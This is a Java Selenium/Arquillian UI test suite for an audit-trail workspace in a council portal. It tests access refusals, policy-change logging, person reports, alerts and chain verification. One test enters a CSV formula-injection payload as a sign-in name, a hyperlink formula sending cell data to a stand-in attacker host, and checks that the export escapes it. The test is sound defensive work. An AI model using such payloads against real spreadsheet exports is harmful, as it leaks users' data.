package org.lowshire.portal.ui;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.lowshire.portal.request.RequestApiClient;
import org.lowshire.portal.support.Deployments;
import org.lowshire.portal.support.Http;
import org.lowshire.portal.support.Tokens;
import org.openqa.selenium.By;

/** The information governance officer's workspace, in Chromium with axe on every page. */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class IgWorkspaceUiIT extends BrowserJourney {

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.portalWithFaults();
    }

    @Test
    void aPractitionerIsRefusedTheIgPagesAndTheRefusalIsFoundInTheTrail() {
        signInAs("edu.practitioner");
        browser.open("/ig/");
        assertEquals("You do not have access to this page", browser.text(By.id("error-403")));
        browser.open("/ig/verification.xhtml");
        assertEquals("You do not have access to this page", browser.text(By.id("error-403")));
        signOut();

        signInAs("ig.officer");
        browser.open("/ig/");
        browser.assertAccessible();
        browser.driver().findElement(By.id("search:username")).sendKeys("edu.practitioner");
        browser.driver().findElement(By.id("search:apply")).click();
        browser.waitFor(By.id("audit-count"));
        String table = browser.text(By.id("search:events"));
        assertTrue(table.contains("ACCESS_DENIED") && table.contains("/ig/"), table);
        browser.assertAccessible();
    }

    @Test
    void anAdministratorChangesAnAgencysApprovalPolicyAndTheChangeIsInTheTrail() {
        signInAs("portal.admin");
        browser.open("/admin/");
        browser.waitFor(By.id("change-VCS")).click();
        browser.waitFor(By.id("policy:save"));
        browser.assertAccessible();
        browser.driver()
                .findElement(By.xpath("//label[normalize-space()='Always']"))
                .click();
        browser.driver().findElement(By.id("policy:save")).click();
        browser.waitFor(By.id("banner"));
        assertEquals("Always", browser.text(By.id("override-VCS")));
        browser.assertAccessible();
        signOut();

        signInAs("ig.officer");
        browser.open("/ig/");
        browser.driver().findElement(By.id("search:username")).sendKeys("portal.admin");
        browser.driver().findElement(By.id("search:apply")).click();
        browser.waitFor(By.id("audit-count"));
        String table = browser.text(By.id("search:events"));
        assertTrue(table.contains("UPDATE") && table.contains("Lowshire Voluntary Sector Safeguarding Forum"), table);
    }

    @Test
    void thePersonReportShowsWhoSawAndReceivedThePersonsDataAndExportsAsCsv() throws Exception {
        String person = "P-" + UUID.randomUUID().toString().substring(0, 8);
        String token = Tokens.accessToken("csc.practitioner");
        var viewed = Http.postForm(
                Http.appUrl("/api/test-fixtures/audit?action=VIEW&record=R1&person=" + person),
                Map.of(),
                "Authorization",
                "Bearer " + token);
        assertEquals(200, viewed.statusCode(), viewed.body());
        Http.postForm(
                Http.appUrl("/api/test-fixtures/audit?action=DISCLOSE&record=R1&recipient=POLICE&person=" + person),
                Map.of(),
                "Authorization",
                "Bearer " + token);

        signInAs("ig.officer");
        browser.open("/ig/person.xhtml?person=" + person);
        String table = browser.text(By.id("report:events"));
        assertTrue(
                table.contains("csc.practitioner")
                        && table.contains("VIEW")
                        && table.contains("DISCLOSE")
                        && table.contains("POLICE"),
                table);
        browser.assertAccessible();

        browser.driver().findElement(By.id("report:export-csv")).click();
        Path csv = awaitDownload(".csv");
        String content = Files.readString(csv);
        assertTrue(content.contains("DISCLOSE") && content.contains("csc.practitioner"), content);

        browser.open("/ig/user.xhtml?user=ig.officer");
        String own = browser.text(By.id("report:events"));
        assertTrue(own.contains("EXPORT") && own.contains("SEARCH"), "the export and the report are audited: " + own);
        browser.assertAccessible();
    }

    /**
     * A name typed on Keycloak's sign-in page reaches the trail (the failed sign-in is imported) and so the CSV
     * export: a spreadsheet would run it as a formula, so every cell that could start one is written as text.
     */
    @Test
    void aFormulaTypedAsAUserNameOnTheSignInPageIsExportedAsText() throws Exception {
        String formula = "=hyperlink(\"http://evil.example/?\"&a1,\"open\")-"
                + UUID.randomUUID().toString().substring(0, 6);
        browser.signIn(formula, "Not-the-password-1");
        // Keycloak answers the refused sign-in with its form again; until then the old form may be torn down
        new org.openqa.selenium.support.ui.WebDriverWait(browser.driver(), Duration.ofSeconds(30))
                .ignoring(org.openqa.selenium.WebDriverException.class)
                .until(d -> d.getCurrentUrl().contains("login-actions")
                        && d.findElement(By.id("username")).isDisplayed());
        Instant deadline = Instant.now().plus(Duration.ofSeconds(40));
        while (RequestApiClient.count("select count(*) from portal.audit_event where actor_username = ?", formula)
                == 0) {
            assertTrue(Instant.now().isBefore(deadline), "the failed sign-in was not imported");
            Thread.sleep(500);
        }

        signInAs("ig.officer");
        browser.open("/ig/");
        browser.driver().findElement(By.id("search:username")).sendKeys(formula);
        browser.driver().findElement(By.id("search:apply")).click();
        browser.waitFor(By.id("audit-count"));
        browser.driver().findElement(By.id("search:export-csv")).click();
        List<List<String>> rows = csvCells(Files.readString(awaitDownload(".csv")));

        assertTrue(rows.size() >= 2, "a header and the failed sign-in: " + rows);
        assertTrue(rows.stream().skip(1).allMatch(row -> row.get(1).equals("'" + formula)), rows.toString());
        for (List<String> row : rows) {
            for (String cell : row) {
                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "a formula cell: " + cell);
            }
        }
    }

    /** PrimeFaces' CSV: every cell in double quotes, a quote inside doubled, cells separated by commas. */
    private static List<List<String>> csvCells(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                cell.append('"');
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (!quoted && (c == '\n' || c == '\r')) {
                if (!row.isEmpty() || cell.length() > 0) {
                    row.add(cell.toString());
                    rows.add(row);
                }
                row = new ArrayList<>();
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        if (!row.isEmpty() || cell.length() > 0) {
            row.add(cell.toString());
            rows.add(row);
        }
        return rows;
    }

    @Test
    void anImpossibleDateRangeIsExplainedNextToTheFieldAndNothingTypedIsLost() {
        signInAs("ig.officer");
        browser.open("/ig/");
        var js = (org.openqa.selenium.JavascriptExecutor) browser.driver();
        js.executeScript("document.getElementById('search:from').value='2026-03-10';"
                + "document.getElementById('search:to').value='2026-03-01';");
        browser.driver().findElement(By.id("search:username")).sendKeys("csc.practitioner");
        browser.driver().findElement(By.id("search:apply")).click();
        assertEquals("There is a problem", browser.text(By.cssSelector("#error-summary h2")));
        assertEquals("The to date must be the same as or after the from date", browser.text(By.id("search:to-error")));
        assertEquals(
                "csc.practitioner",
                browser.driver().findElement(By.id("search:username")).getAttribute("value"));
        assertEquals(
                "2026-03-10", browser.driver().findElement(By.id("search:from")).getAttribute("value"));
        assertTrue(
                browser.driver().getTitle().startsWith("Error: "),
                browser.driver().getTitle());
        browser.assertAccessible();
    }

    @Test
    void repeatedRefusalsRaiseAnAlertThatTheOfficerAcknowledgesWithANote() {
        signInAs("health.practitioner");
        for (int i = 0; i < 5; i++) {
            browser.open("/admin/");
            browser.waitFor(By.id("error-403"));
        }
        signOut();

        signInAs("ig.officer");
        browser.open("/ig/alerts.xhtml");
        browser.waitFor(By.id("alerts:run-rules"));
        browser.waitFor(By.id("alerts:run-rules")).click();
        var alert =
                browser.waitFor(By.xpath("//section[h2[contains(., 'Repeated refused access: health.practitioner')]]"));
        String id = alert.getAttribute("id").substring("alert-".length());
        browser.assertAccessible();

        alertPart(id, "input[type=submit]").click();
        assertEquals(
                "Enter what you found before acknowledging the alert", browser.text(By.id("note-" + id + "-error")));
        assertEquals("There is a problem", browser.text(By.cssSelector("#error-summary h2")));
        browser.assertAccessible();

        alertPart(id, "textarea").sendKeys("Checked with the user's lead: mistyped links.");
        alertPart(id, "input[type=submit]").click();
        assertTrue(browser.text(By.id("alert-done")).startsWith("Alert acknowledged"));
        assertTrue(browser.driver().findElements(By.id("alert-" + id)).isEmpty(), "no longer open");

        browser.open("/ig/user.xhtml?user=ig.officer");
        assertTrue(browser.text(By.id("report:events")).contains("ALERT_ACKNOWLEDGED"));
    }

    @Test
    void theOfficerVerifiesTheChainAndSeesItIsIntact() {
        signInAs("ig.officer");
        browser.open("/ig/verification.xhtml");
        browser.waitFor(By.id("verify:verify-now")).click();
        assertEquals("The audit trail is intact", browser.text(By.cssSelector("#verify-status h2")));
        assertTrue(browser.text(By.id("verify-history")).contains("ig.officer"));
        browser.assertAccessible();
    }

    @Test
    void theOfficerKeepsTheSignedHeadAndLaterFindsItStillInTheChain() throws Exception {
        signInAs("ig.officer");
        browser.open("/ig/verification.xhtml");
        browser.waitFor(By.id("head-download")).click();
        Path head = awaitDownload(".txt");
        assertTrue(Files.readString(head).contains("format=lowshire-audit-head-v1"));
        browser.waitFor(By.id("head:file")).sendKeys(head.toString());
        browser.waitFor(By.id("head:check")).click();
        assertTrue(
                browser.text(By.id("head-result")).contains("This head is still in the chain"),
                browser.text(By.id("head-result")));
        browser.assertAccessible();

        Path notAHead = Files.writeString(browser.downloads().resolve("minutes.txt"), "Board minutes, not a head");
        browser.waitFor(By.id("head:file")).sendKeys(notAHead.toString());
        browser.waitFor(By.id("head:check")).click();
        assertTrue(browser.text(By.id("head:file-error")).contains("this file is not one"));
        browser.assertAccessible();
    }

    private org.openqa.selenium.WebElement alertPart(String alertId, String css) {
        return browser.driver().findElement(By.cssSelector("#alert-" + alertId + " " + css));
    }

    private Path awaitDownload(String suffix) throws Exception {
        Instant deadline = Instant.now().plus(Duration.ofSeconds(20));
        while (Instant.now().isBefore(deadline)) {
            try (var files = Files.list(browser.downloads())) {
                var all = files.toList();
                var found =
                        all.stream().filter(f -> f.toString().endsWith(suffix)).findFirst();
                boolean inProgress = all.stream().anyMatch(f -> f.toString().endsWith(".crdownload"));
                if (found.isPresent() && !inProgress) {
                    return found.get();
                }
            }
            Thread.sleep(200);
        }
        throw new AssertionError("no " + suffix + " file was downloaded");
    }
}
